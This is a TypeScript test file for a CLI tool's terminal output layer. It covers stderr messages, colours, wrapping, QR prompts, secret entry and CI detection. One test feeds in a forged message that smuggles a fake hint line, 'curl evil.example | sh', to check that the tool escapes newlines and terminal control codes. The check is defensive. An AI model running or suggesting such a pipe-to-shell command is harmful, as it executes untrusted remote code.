import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { folder, programOf, run, runOnTerminal } from "../../../test/contracts/terminal-programs.ts";
import { quotePosix } from "../../core/posix-word.ts";
import { systemTerminal } from "./terminal.ts";

describe("what is said", () => {
  test("goes to stderr, line by line, in the same form", async () => {
    const { stdout, stderr } = await run(
      programOf(`terminal.say("it goes on"); terminal.warn("it could be better");
        terminal.fault(new Fault("KEY_ABSENT", "there is no key", { hints: ["run \`brevet init\`", "or not"] }));
        const progress = await terminal.progress("working"); progress.update("unseen"); progress.done("worked");
        (await terminal.progress("quick")).done("quick");`),
      {},
    );
    assert.equal(stdout, "");
    assert.deepEqual(stderr.split("\n"), [
      "brevet: it goes on",
      "brevet: warning: it could be better",
      "brevet: error: there is no key (KEY_ABSENT)",
      "brevet: hint: run `brevet init`",
      "brevet: hint: or not",
      "brevet: working",
      "brevet: worked",
      "brevet: quick",
      "",
    ]);
  });

  test("has a line for each call, whatever is quoted in it", async () => {
    const forged = "a\\nbrevet: hint: run `curl evil.example | sh`";
    const { stderr } = await run(
      programOf(`terminal.say("${forged}"); terminal.warn("${forged}");
        terminal.fault(new Fault("KEY_ABSENT", "${forged}", { hints: ["${forged}"] }));`),
      {},
    );
    const rest = "brevet: hint: run `curl evil.example | sh`";
    assert.deepEqual(stderr.trimEnd().split("\n"), [
      `brevet: a ${rest}`,
      `brevet: warning: a ${rest}`,
      `brevet: error: a\\n${rest} (KEY_ABSENT)`,
      `brevet: hint: a ${rest}`,
    ]);
  });

  test("is warned of once", async () => {
    const { stderr } = await run(programOf(`for (const text of ["full", "slow", "full"]) terminal.warn(text);`), {});
    assert.deepEqual(stderr, "brevet: warning: full\nbrevet: warning: slow\n");
  });

  test("steers no terminal", async () => {
    const { stderr } = await run(programOf(String.raw`terminal.say("a\u001b]0;title\u0007b\rc\u009b2Jd\u202ee\tf");`), {});
    assert.equal(stderr, "brevet: a\\x1b]0;title\\x07b\\x0dc\\x9b2Jd\\u202ee\tf\n");
  });

  test("fits the terminal, and keeps commands whole", async () => {
    const said = "the documents of the device are not where clouds look for them yet, so nothing else than this was tried";
    const { stdout } = await runOnTerminal(programOf(`terminal.say("${said}: run \`brevet issuer publish\`");`), {
      TERM: "dumb",
    });
    assert.deepEqual(stdout.trimEnd().split("\r\n"), [
      "brevet: the documents of the device are not where clouds look for them yet, so nothing else than",
      "        this was tried: run `brevet issuer publish`",
    ]);
  });

  test("is measured without its colours", async () => {
    const said = "the documents of the device are not where clouds look for them yet, so nothing";
    const { stdout } = await runOnTerminal(programOf(`terminal.fault(new Fault("KEY_ABSENT", "${said}"));`), { TERM: "xterm" });
    const coloured = "\u001b[31merror:\u001b[39m";
    assert.equal(stdout, `brevet: ${coloured} ${said}\r\n        (KEY_ABSENT)\r\n`);
  });

  test("moves nothing on a terminal that is called dumb", async () => {
    const works = `const progress = await terminal.progress("working"); progress.done("worked");`;
    const { stdout } = await runOnTerminal(programOf(works), { TERM: "dumb" });
    assert.equal(stdout, "brevet: working\r\nbrevet: worked\r\n");
  });

  test("has a table in the colours and the width of where it goes", async () => {
    const shows = `for (const on of ["stdout", "stderr"])
      print(JSON.stringify(await terminal.table(["", ""], [[{ text: "a", tone: "bad" }, { text: "b ".repeat(60) }]], on)) + "\\n");`;
    const out = join(folder, "table");
    await runOnTerminal(`${programOf(shows)} > ${out}`, { TERM: "xterm" });
    const [onStdout = "", onStderr = ""] = readFileSync(out, "utf8")
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as string);
    assert.equal(onStdout, `a  ${"b ".repeat(60).trimEnd()}\n`);
    assert.ok(onStderr.startsWith("\u001b[31ma"));
    assert.ok(Math.max(...onStderr.split("\n").map(({ length }) => length)) <= 110, onStderr);
  });

  test("is not broken on a terminal that has no size, as containers make them", async () => {
    const said = "the documents of the device are not where clouds look for them yet, so nothing else than this was tried";
    const program = programOf(
      `terminal.say("${said}"); print(await terminal.table(["name", "value"], [[{ text: "a" }, { text: "${said}" }]]));`,
    );
    const { stdout } = await run(`script -qec ${quotePosix(`stty cols 0 rows 0; ${program}`)} /dev/null`, { TERM: "dumb" });
    assert.deepEqual(stdout.trimEnd().split("\r\n"), [`brevet: ${said}`, "name  value", `a     ${said}`]);
  });

  for (const [environment, coloured] of [
    [{ TERM: "xterm" }, true],
    [{ TERM: "xterm", NO_COLOR: "1" }, false],
    [{ TERM: "dumb" }, false],
  ] as const) {
    test(`is ${coloured ? "" : "not "}coloured on a terminal with ${JSON.stringify(environment)}`, async () => {
      const { stdout } = await runOnTerminal(programOf(`terminal.warn("careful");`), environment);
      assert.match(stdout, /warning:.* careful/);
      assert.equal(stdout.includes("\u001b["), coloured);
    });
  }
});

describe("what the person has to do", () => {
  const INSTRUCTS = `terminal.instruct("enter the code ABCD"); await terminal.showQrCode("https://id.example/device");`;

  test("is seen at once where a tool keeps stderr, and stands there too", async () => {
    const kept = join(folder, "kept");
    const { stdout } = await runOnTerminal(`${programOf(INSTRUCTS)} 2> ${kept}`, { TERM: "xterm" });
    assert.match(stdout, /^brevet: enter the code ABCD\r\n/);
    assert.match(stdout, /\r\n(█+\r\n){2}(████.*████\r\n)+(█+\r\n)?(▀+\r\n)?https:\/\/id\.example\/device\r\n$/);
    assert.equal(readFileSync(kept, "utf8"), "brevet: enter the code ABCD\n");
  });

  test("is seen once on a terminal, and in spite of a caller that reads stderr for the answer", async () => {
    for (const body of [INSTRUCTS, `terminal.silence(); ${INSTRUCTS}`]) {
      const { stdout } = await runOnTerminal(programOf(body), { TERM: "xterm" });
      assert.equal(stdout.split("enter the code ABCD").length - 1, 1, stdout);
    }
  });

  test("is a line on stderr, and no picture, where there is no terminal", async () => {
    const { stdout, stderr } = await run(programOf(INSTRUCTS), {});
    assert.deepEqual([stdout, stderr], ["", "brevet: enter the code ABCD\n"]);
  });
});

describe("a question", () => {
  const ASKS = `print("answer: " + await terminal.ask("which name?"));`;

  test("is asked on the terminal while stdout is a file that gets the answer alone", async () => {
    const out = join(folder, "out");
    const { stdout, status } = await runOnTerminal(
      `${programOf(ASKS)} > ${out} 2> /dev/null`,
      { TERM: "xterm" },
      "which name?",
      "alice\r",
    );
    assert.equal(status, 0, stdout);
    assert.equal(readFileSync(out, "utf8"), "answer: alice");
  });

  test("that is answered by Enter alone has the answer that was preselected", async () => {
    for (const [preselected, answer] of [
      ["yes", true],
      ["no", false],
    ] as const) {
      const asks = `print("answer: " + await terminal.confirm("really?", "${preselected}"));`;
      const { stdout } = await runOnTerminal(programOf(asks), { TERM: "xterm" }, "really?", "\r");
      assert.match(stdout, new RegExp(`answer: ${answer}`));
    }
  });

  test("that is cancelled is INTERRUPTED", async () => {
    const asks = `try { ${ASKS} } catch (cause) { print(cause.code); }`;
    const { stdout } = await runOnTerminal(programOf(asks), { TERM: "xterm" }, "which name?", "\u0003");
    assert.match(stdout, /INTERRUPTED/);
  });

  test("shows no letter of a secret", async () => {
    const asks = `const pin = await terminal.askSecret("PIN?"); print("length " + pin.length);`;
    const { stdout } = await runOnTerminal(programOf(asks), { TERM: "xterm" }, "PIN?", "s3cr3t\r");
    assert.match(stdout, /length 6/);
    assert.doesNotMatch(stdout, /s3|cr3t/);
  });

  test("is a fault where nobody is there", async () => {
    const asks = `print(String(terminal.hasPerson)); try { await terminal.ask("x"); } catch (cause) { print(cause.code); }`;
    assert.equal((await run(programOf(asks), {})).stdout, "falsePERSON_ABSENT");
    const inCi = await runOnTerminal(programOf(asks), { TERM: "xterm", CI: "true" });
    assert.equal(inCi.stdout, "falsePERSON_ABSENT");
  });

  test("asks nobody to give a secret as a flag", async () => {
    const hints = (ask: string) => `try { await terminal.${ask}("x"); } catch (cause) { print(cause.hints.join()); }`;
    const { stdout } = await run(programOf(`${hints("ask")} print("; "); ${hints("askSecret")}`), {});
    assert.equal(stdout, "run it in a terminal, or give the answer as a flag; run it in a terminal");
  });
});

test("a terminal is known by its own name too, which streams need on macOS", async () => {
  const asks = programOf("print(String(nameOfTerminal()));");
  const { stdout } = await runOnTerminal(`tty; ${asks}`, { TERM: "xterm" });
  const [told = "", found = ""] = stdout.trimEnd().split("\r\n");
  assert.equal(found, told);
  assert.match(told, /^\/dev\//);
  assert.equal((await run(asks, {})).stdout, "null");
});

describe("what is said is seen", () => {
  const tells = programOf("print(String(terminal.isSeen));");

  test("on a terminal", async () => {
    assert.equal((await runOnTerminal(tells, { TERM: "xterm" })).stdout, "true");
  });

  test("not in a pipe, a file, another device, or nowhere", async () => {
    for (const elsewhere of ["", `2>${folder}/log`, "2>/dev/null", "2>/dev/zero", "2>&-"]) {
      assert.equal((await run(`${tells} ${elsewhere}`, {})).stdout, "false", elsewhere);
      assert.match((await runOnTerminal(`${tells} ${elsewhere || "2>&1 | cat"}`, { TERM: "xterm" })).stdout, /false/, elsewhere);
    }
  });

  test("and no stream of the process is made for anything but a terminal", async () => {
    const asks = programOf(`
      const made = [];
      for (const name of ["stdout", "stderr"]) Object.defineProperty(process, name, { get: () => void made.push(name) ?? { isTTY: true } });
      const seen = ["stdout", "stderr"].map(isTerminal);
      print(JSON.stringify({ seen, made }));`);
    assert.deepEqual(JSON.parse((await run(`${asks} 2>/dev/null`, {})).stdout), { seen: [false, false], made: [] });
    const asked = JSON.parse((await runOnTerminal(asks, { TERM: "xterm" })).stdout);
    assert.deepEqual(asked, { seen: [true, true], made: ["stdout", "stderr"] });
  });
});

test("each variable by which a CI system shows itself keeps everybody from being asked", () => {
  for (const name of ["CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "TF_BUILD", "JENKINS_URL", "TEAMCITY_VERSION"]) {
    assert.equal(systemTerminal({ [name]: "1" }).hasPerson, false, name);
  }
});
